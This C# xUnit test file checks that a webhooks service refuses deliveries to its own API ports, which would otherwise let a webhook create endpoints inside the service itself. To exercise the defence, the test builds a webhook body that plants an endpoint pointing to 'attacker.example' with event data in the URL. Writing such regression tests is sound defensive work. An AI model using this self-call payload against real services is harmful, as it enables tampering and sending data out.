using Google.Protobuf.WellKnownTypes;
using Grpc.Core;
using Webhooks.Api.V1;
using Webhooks.Tests.Infrastructure;
using Endpoint = Webhooks.Api.V1.Endpoint;

namespace Webhooks.Tests.Outbound;

/// <summary>The real silo process on its loopback default (no API keys): local receivers are reachable, as the
/// README's walk-through needs, but no delivery reaches the service's own API — the attack where an endpoint at the
/// service's JSON port and a webhook whose body is an endpoint definition made the service create an endpoint in
/// itself.</summary>
public sealed class SelfCallTests : IAsyncLifetime
{
    private readonly string _logDirectory = Path.Combine(Path.GetTempPath(), $"webhooks-selfcall-{Guid.NewGuid():N}");
    private SiloProcess _silo = null!;
    private TestReceiver _receiver = null!;

    public async Task InitializeAsync()
    {
        Directory.CreateDirectory(_logDirectory);
        _receiver = await TestReceiver.StartAsync();
        _silo = SiloProcess.Start("self", $"self-{Guid.NewGuid():N}"[..16], connectionString: null, _logDirectory, ["Storage:Provider=memory"]);
        await _silo.WaitReadyAsync(TimeSpan.FromSeconds(90));
    }

    public async Task DisposeAsync()
    {
        await _silo.DisposeAsync();
        await _receiver.DisposeAsync();
    }

    [Fact]
    public async Task ADeliveryToTheServicesOwnApi_IsRefused_WhileLocalReceiversAreReached()
    {
        var ownPorts = new[] { new Uri(_silo.HttpUrl).Port, new Uri(_silo.GrpcUrl).Port, _silo.SiloPort, _silo.GatewayPort };
        foreach (var port in ownPorts)
        {
            var ex = await Assert.ThrowsAsync<RpcException>(() => _silo.Endpoints.CreateEndpointAsync(new CreateEndpointRequest
            {
                Endpoint = new Endpoint { Name = "self", Url = $"http://127.0.0.1:{port}/v1/endpoints" },
            }).ResponseAsync);
            Assert.Equal(StatusCode.InvalidArgument, ex.StatusCode);
            Assert.Contains("endpoint.url", ex.Status.Detail, StringComparison.Ordinal);
            Assert.Contains("own listener", ex.Status.Detail, StringComparison.Ordinal);
        }

        // By name the address is only known when connecting: the attempt is refused then.
        var self = await _silo.Endpoints.CreateEndpointAsync(new CreateEndpointRequest
        {
            Endpoint = new Endpoint { Name = "self", Url = $"http://localhost:{new Uri(_silo.HttpUrl).Port}/v1/endpoints" },
        });
        var local = await _silo.Endpoints.CreateEndpointAsync(new CreateEndpointRequest
        {
            Endpoint = new Endpoint { Name = "local receiver", Url = $"{_receiver.Url}/local" },
        });
        await _silo.Webhooks.CreateWebhookAsync(new CreateWebhookRequest
        {
            Webhook = new Webhook
            {
                Name = "create an endpoint in the service",
                ObjectTypes = { "dcim.device" },
                Events = { "created" },
                EndpointIds = { self.Id, local.Id },
                BodyTemplate = """{"endpoint": {"name": "planted", "url": "http://attacker.example/{{ data.name }}"}}""",
            },
        });

        await _silo.Events.PublishAsync(new PublishRequest
        {
            Event = new ObjectEvent { ObjectType = "dcim.device", Event = "created", Data = Struct.Parser.ParseJson("""{"name":"sw1"}""") },
        });

        var arrived = await _receiver.WaitForAsync("/local", 1);
        Assert.Contains("planted", arrived[0].BodyText, StringComparison.Ordinal);
        var deliveries = new Api.V1.Deliveries.DeliveriesClient(_silo.Channel);
        var refused = await Poll.ForAsync(
            async () => await deliveries.ListDeliveriesAsync(new ListDeliveriesRequest { EndpointId = self.Id }),
            r => r.Deliveries.Count == 1 && r.Deliveries[0].Status == Api.V1.Delivery.Types.Status.Failed,
            "the delivery to the service's own port fails");
        var attempt = Assert.Single(refused.Deliveries[0].Attempts);
        Assert.Contains("own listener", attempt.Error, StringComparison.Ordinal);
        var endpoints = await _silo.Endpoints.ListEndpointsAsync(new ListEndpointsRequest { PageSize = 100 });
        Assert.Equal(["local receiver", "self"], endpoints.Endpoints.Select(e => e.Name).Order(StringComparer.Ordinal));
        Assert.Contains("deliveries may go to loopback addresses", await File.ReadAllTextAsync(_silo.LogPath), StringComparison.Ordinal);
    }
}
